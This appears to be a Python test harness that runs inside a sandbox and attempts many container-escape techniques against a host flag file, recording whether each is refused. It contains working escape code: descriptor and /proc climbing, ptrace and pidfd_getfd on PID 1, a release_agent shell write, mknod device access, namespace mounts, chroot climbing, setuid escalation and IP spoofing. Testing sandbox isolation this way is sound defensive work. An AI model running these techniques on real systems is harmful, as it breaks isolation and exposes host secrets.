"""Runs inside a sandbox and tries to get at the host's flag. Prints one JSON list of [name, refused, detail].

argv[1] is JSON: {"path": the flag's path outside, "socket": abstract socket of the host, "unix": [paths of platform sockets],
"spoof": [addresses to pretend], "sink": [host, port], "ownKernel": bool}.
`refused` is true when the kernel said no. Whatever was read is in `detail`, so that a flag that was reached is seen.
"""
import ctypes
import errno
import glob
import json
import os
import socket
import stat
import struct
import sys

options = json.loads(sys.argv[1])
PATH = options["path"]
libc = ctypes.CDLL(None, use_errno=True)
results = []


def attempt(name, action):
    try:
        got = action()
        results.append([name, False, str(got)[:200]])
    except (OSError, ValueError, EOFError, UnicodeError) as error:
        results.append([name, True, errno.errorcode.get(getattr(error, "errno", None), str(error))])


def read(path):
    with open(path, "rb") as f:
        return f.read(4096)


def check(value, what):
    if value == -1:
        raise OSError(ctypes.get_errno(), what)
    return value


def call(number, *arguments):
    ctypes.set_errno(0)
    return check(libc.syscall(number, *arguments), "syscall")


def descriptors():
    """CVE-2024-21626 and its like: a descriptor or working directory of the host left open."""
    for pid in ("self", "1", "thread-self"):
        base = "/proc/%s" % pid
        for link in ("root", "cwd"):
            for climb in ("", "/..", "/../../../../.."):
                attempt("%s/%s%s" % (base, link, climb), lambda: read(base + "/" + link + climb + PATH))
        for fd in range(0, 48):
            attempt("%s/fd/%d climbing" % (base, fd), lambda: read("%s/fd/%d/../../../../../../..%s" % (base, fd, PATH)))
            attempt("%s/fd/%d below" % (base, fd), lambda: read("%s/fd/%d%s" % (base, fd, PATH)))

    for fd in range(0, 48):
        def from_there():
            os.chdir("/proc/self/fd/%d" % fd)
            try:
                return read("../../../../../../.." + PATH)
            finally:
                os.chdir("/")
        attempt("chdir to descriptor %d" % fd, from_there)
        attempt("openat below descriptor %d" % fd, lambda: os.open(PATH.lstrip("/"), os.O_RDONLY, dir_fd=fd))
    attempt("the path itself", lambda: read(PATH))
    attempt("write the path itself", lambda: os.open(PATH, os.O_WRONLY))


def agent():
    """PID 1 by its /proc, as the user of the sandbox; root inside owns it, and has a test of its own."""
    def demote(action):
        reader, writer = os.pipe()
        child = os.fork()
        if child == 0:
            try:
                os.setgroups([])
                os.setgid(1000)
                os.setuid(1000)
                action()
                os.write(writer, b"done")
            except OSError as error:
                os.write(writer, str(error.errno).encode())
            finally:
                os._exit(0)
        os.close(writer)
        said = os.read(reader, 100)
        os.close(reader)
        os.waitpid(child, 0)
        if said != b"done":
            raise OSError(int(said or b"1"), "refused")
        return "done"
    attempt("user: ptrace PID 1", lambda: demote(lambda: check(libc.ptrace(16, 1, 0, 0), "attach")))
    attempt("user: PTRACE_SEIZE PID 1", lambda: demote(lambda: check(libc.ptrace(0x4206, 1, 0, 0), "seize")))
    attempt("user: memory of PID 1", lambda: demote(lambda: os.open("/proc/1/mem", os.O_RDWR)))
    attempt("user: environment of PID 1", lambda: demote(lambda: read("/proc/1/environ")))
    attempt("user: descriptors of PID 1", lambda: demote(lambda: os.listdir("/proc/1/fd")))
    attempt("user: root of PID 1", lambda: demote(lambda: os.listdir("/proc/1/root/root")))
    attempt("user: kill PID 1", lambda: demote(lambda: os.kill(1, 9)))
    attempt("user: process_vm_readv of PID 1", lambda: demote(lambda: call(310, 1, 0, 0, 0, 0, 0) or (_ for _ in ()).throw(OSError(1, "nothing to read"))))

    def steal():
        pidfd = call(434, 1, 0)
        for fd in range(0, 16):
            call(438, pidfd, fd, 0)
    attempt("user: pidfd_getfd of PID 1", lambda: demote(steal))

    # As root too: the socket by which the platform comes in stays the agent's.
    for fd in range(0, 32):
        attempt("root: pidfd_getfd %d of PID 1" % fd, lambda: call(438, call(434, 1, 0), fd, 0))
        attempt("root: open descriptor %d of PID 1" % fd, lambda: socket.socket(fileno=os.open("/proc/1/fd/%d" % fd, os.O_RDWR)))
    attempt("root: ptrace PID 1", lambda: check(libc.ptrace(0x4206, 1, 0, 0), "seize"))
    attempt("root: memory of PID 1", lambda: os.open("/proc/1/mem", os.O_RDWR))
    if not options["ownKernel"]:  # gVisor's init can be killed by its root; the sandbox ends with it and can be resumed
        attempt("root: kill PID 1", lambda: (os.kill(1, 9), (_ for _ in ()).throw(OSError(1, "still there")) if os.path.exists("/proc/1/status") else "gone"))
    attempt("agent binary can be written", lambda: os.open("/proc/1/exe", os.O_WRONLY))
    attempt("agent binary can be replaced", lambda: os.rename("/etc/hostname", "/.miosa/agent"))
    attempt("agent binary can be removed", lambda: os.unlink("/.miosa/agent"))


def kernel_settings():
    for folder, _, names in os.walk("/proc/sys"):
        if folder.startswith("/proc/sys/net") or folder.startswith("/proc/sys/user"):
            continue  # of the sandbox's own namespaces, if anybody's
        for name in names:
            path = os.path.join(folder, name)
            attempt("write " + path, lambda: os.open(path, os.O_WRONLY))
    for path in ("/proc/sysrq-trigger", "/proc/1/oom_score_adj", "/proc/mtrr", "/proc/acpi/wakeup", "/proc/bus/pci/00/00.0", "/proc/fs/jbd2",
                 "/proc/scsi/scsi", "/proc/config.gz", "/proc/iomem", "/proc/kpageflags", "/proc/kpagecount", "/proc/vmcore", "/proc/kmsg",
                 "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats", "/proc/keys", "/proc/key-users", "/proc/kcore"):
        if path == "/proc/1/oom_score_adj" or path == "/proc/key-users":
            continue  # its own


        def change():
            fd = os.open(path, os.O_RDWR)
            if os.fstat(fd).st_rdev == os.makedev(1, 3):
                raise OSError(errno.EACCES, "masked by the null device")
            return os.read(fd, 100)
        attempt("change " + path, change)
    for pattern in ("/sys/fs/cgroup/**/release_agent", "/sys/**/uevent_helper", "/sys/kernel/**/trigger", "/sys/module/**/parameters/*",
                    "/sys/class/**/*", "/sys/fs/cgroup/**/cgroup.procs", "/sys/firmware/efi/efivars/*"):
        attempt(pattern, lambda: [os.open(path, os.O_WRONLY) for path in glob.glob(pattern, recursive=True)[:50]] or (_ for _ in ()).throw(OSError(2, "none")))


def devices():
    folders = ("/tmp", "/dev", "/dev/shm", "/workspace", "/run")
    for folder in folders:
        for kind, letter in ((stat.S_IFBLK, "b"), (stat.S_IFCHR, "c")):
            for major in (1, 4, 7, 8, 9, 10, 11, 43, 65, 202, 229, 252, 253, 254, 259):
                for minor in (0, 1, 2):
                    if kind == stat.S_IFCHR and major == 1 and minor == 0:
                        continue

                    def make():
                        path = "%s/dev-%s-%d-%d" % (folder, letter, major, minor)
                        os.mknod(path, kind | 0o666, os.makedev(major, minor))
                        try:
                            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                            try:
                                return os.read(fd, 16)
                            finally:
                                os.close(fd)
                        finally:
                            os.unlink(path)
                    attempt("device %s %d:%d in %s" % (letter, major, minor, folder), make)


def mount(kind, source, target, flags=0, data=""):
    ctypes.set_errno(0)
    check(libc.mount(source.encode(), target.encode(), kind.encode(), flags, data.encode()), "mount")


def in_new_namespaces():
    """With fresh capabilities, if a user namespace is to be had: mounts of every kind, and the flag looked for in each."""
    spaces = {"user": 0x10000000, "user+mount": 0x10020000, "all": 0x7e020000, "user+net": 0x50000000, "user+pid": 0x30000000,
              "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "cgroup": 0x2000000, "ipc": 0x8000000, "uts": 0x4000000}
    kinds = (("tmpfs", "tmpfs", ""), ("proc", "proc", ""), ("sysfs", "sysfs", ""), ("cgroup", "cgroup", "memory"), ("cgroup", "cgroup", "rdma"),
             ("cgroup2", "cgroup2", ""), ("overlay", "overlay", "lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w"), ("bpf", "bpf", ""),
             ("debugfs", "debugfs", ""), ("tracefs", "tracefs", ""), ("securityfs", "securityfs", ""), ("mqueue", "mqueue", ""),
             ("devpts", "devpts", ""), ("devtmpfs", "devtmpfs", ""), ("ext4", "/dev/vda", ""), ("btrfs", "/dev/loop0", ""), ("binfmt_misc", "binfmt_misc", ""),
             ("9p", "host", "trans=virtio"), ("nfs", "127.0.0.1:/", "addr=127.0.0.1"), ("fuse", "fuse", "fd=3,rootmode=40000,user_id=0,group_id=0"))
    os.makedirs("/tmp/m", exist_ok=True)
    for name, flags in spaces.items():
        reader, writer = os.pipe()
        child = os.fork()
        if child == 0:
            results.clear()
            try:
                uid, gid = os.getuid(), os.getgid()
                ctypes.set_errno(0)
                attempt("unshare " + name, lambda: check(libc.unshare(flags), "unshare"))
                for file, text in (("setgroups", "deny"), ("uid_map", "0 %d 1" % uid), ("gid_map", "0 %d 1" % gid)):
                    attempt("%s: write %s" % (name, file), lambda: os.write(os.open("/proc/self/" + file, os.O_WRONLY), text.encode()))
                for kind, source, data in kinds:
                    def mounted():
                        mount(kind, source, "/tmp/m", 0, data)
                        found = [read("/tmp/m" + extra + PATH) for extra in ("", "/1/root") if os.path.exists("/tmp/m" + extra + PATH)]
                        for agent in glob.glob("/tmp/m/**/release_agent", recursive=True):
                            with open(agent, "w") as f:
                                f.write("/bin/sh -c 'echo out > %s'" % PATH)
                        return found
                    attempt("%s: mount %s" % (name, kind), mounted)
                attempt("%s: bind /" % name, lambda: (mount("", "/", "/tmp/m", 4096 | 16384), read("/tmp/m" + PATH)))
                attempt("%s: shared /" % name, lambda: mount("", "/", "/", (1 << 20) | 16384))
                attempt("%s: pivot_root" % name, lambda: call(155, b"/tmp/m", b"/tmp/m"))

                def chroot():
                    check(libc.chroot(b"/tmp/m"), "chroot")
                    for _ in range(40):
                        os.chdir("..")
                    check(libc.chroot(b"."), "chroot")
                    return read(PATH)
                attempt("%s: chroot and climb" % name, chroot)
                attempt("%s: setns of PID 1" % name, lambda: [check(libc.setns(os.open("/proc/1/ns/" + kind, os.O_RDONLY), 0), kind) for kind in ("mnt", "user", "net", "pid")])
                attempt("%s: open_by_handle_at" % name, lambda: call(304, os.open("/", os.O_RDONLY), struct.pack("IIII", 8, 1, 2, 0), os.O_RDONLY))
                os.write(writer, json.dumps(results).encode())
            finally:
                os._exit(0)
        os.close(writer)
        with os.fdopen(reader, "rb") as f:
            said = f.read()
        os.waitpid(child, 0)
        results.extend(json.loads(said or b"[]"))


SYSCALLS = {"kexec_load": 246, "kexec_file_load": 320, "init_module": 175, "finit_module": 313, "delete_module": 176, "bpf": 321,
            "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425, "io_uring_enter": 426, "io_uring_register": 427, "add_key": 248,
            "request_key": 249, "keyctl": 250, "iopl": 172, "ioperm": 173, "reboot": 169, "swapon": 167, "swapoff": 168, "settimeofday": 164,
            "clock_settime": 227, "acct": 163, "quotactl": 179, "syslog": 103, "vhangup": 153, "lookup_dcookie": 212, "fanotify_init": 300,
            "move_pages": 279, "migrate_pages": 256, "fsopen": 430, "fsconfig": 431, "fsmount": 432, "fspick": 433, "open_tree": 428,
            "move_mount": 429, "mount_setattr": 442, "quotactl_fd": 443, "uselib": 134, "ustat": 136, "nfsservctl": 180, "sysfs": 139,
            "sethostname": 170, "setdomainname": 171, "umount2": 166, "clone3": 435}


def calls():
    for name, number in SYSCALLS.items():
        for arguments in ((0, 0, 0, 0, 0), (-1, -1, -1, -1, -1), (1, b"x", 1, b"x", 0)):
            attempt("%s%s" % (name, arguments), lambda: call(number, *arguments))

    def other_entry():
        """A call of another architecture, which a filter may not know; the answer may be the end of the process."""
        child = os.fork()
        if child == 0:
            try:
                call(0x40000000 + 165, 0, 0, 0, 0, 0)
                os._exit(0)
            except OSError:
                os._exit(1)
        if os.waitpid(child, 0)[1] != 0:
            raise OSError(errno.ENOSYS, "ended")
    attempt("x32 entry", other_entry)


def setuid_binaries():
    """no_new_privs: no file may give rights that its starter has not."""
    import shutil
    import subprocess
    shutil.copy("/usr/bin/id", "/tmp/suid-id")
    os.chmod("/tmp/suid-id", 0o6755)

    def run():
        said = subprocess.run(["/tmp/suid-id", "-u"], user=1000, group=1000, capture_output=True, text=True).stdout.strip()
        if said != "0":
            raise OSError(1, "still " + said)
        return said
    attempt("setuid file", run)
    attempt("file capabilities", lambda: os.setxattr("/tmp/suid-id", "security.capability", struct.pack("<IIIII", 0x2000001, 0xffffffff, 0, 0, 0)))
    os.unlink("/tmp/suid-id")


def sockets():
    def connect(address, kind=socket.SOCK_STREAM):
        with socket.socket(socket.AF_UNIX, kind) as s:
            s.settimeout(1)
            s.connect(address)
            return s.recv(200)
    attempt("abstract socket of the host", lambda: connect("\0" + options["socket"]))
    attempt("abstract datagram socket of the host", lambda: connect("\0" + options["socket"], socket.SOCK_DGRAM))
    for path in options["unix"]:
        for prefix in ("", "/proc/1/root", "/proc/self/root/.."):
            attempt("socket " + prefix + path, lambda: connect(prefix + path))
    known = {line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) == 8}
    for path in known:
        attempt("listed socket " + path, lambda: connect(path.replace("@", "\0", 1)))
    for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_PACKET, socket.SOCK_DGRAM, 0), (socket.AF_INET, socket.SOCK_RAW, 255),
                                   (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_INET6, socket.SOCK_RAW, 255),
                                   (40, socket.SOCK_STREAM, 0), (38, socket.SOCK_SEQPACKET, 0), (15, socket.SOCK_RAW, 2), (17, socket.SOCK_RAW, 0x300),
                                   (31, socket.SOCK_RAW, 1), (29, socket.SOCK_RAW, 1), (21, socket.SOCK_SEQPACKET, 0), (30, socket.SOCK_STREAM, 0), (44, socket.SOCK_RAW, 0)):
        attempt("socket family %d kind %d protocol %d" % (family, kind, protocol), lambda: socket.socket(family, kind, protocol))
    # Another one's address as source: the host must drop what the socket lets out.
    for setting, level, option in (("IP_FREEBIND", 0, 15), ("IP_TRANSPARENT", 0, 19)):
        for source in options["spoof"]:
            def spoof():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    s.setsockopt(level, option, 1)
                    s.bind((source, 0))
                    for _ in range(3):
                        s.sendto(("SPOOF %s" % source).encode(), tuple(options["sink"]))
                    return "sent"
            attempt("%s as %s" % (setting, source), spoof)
    attempt("router advertisement", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("ff02::1%eth0", 9)))


for group in (descriptors, agent, kernel_settings, devices, in_new_namespaces, calls, setuid_binaries, sockets):
    group()
print(json.dumps(results))
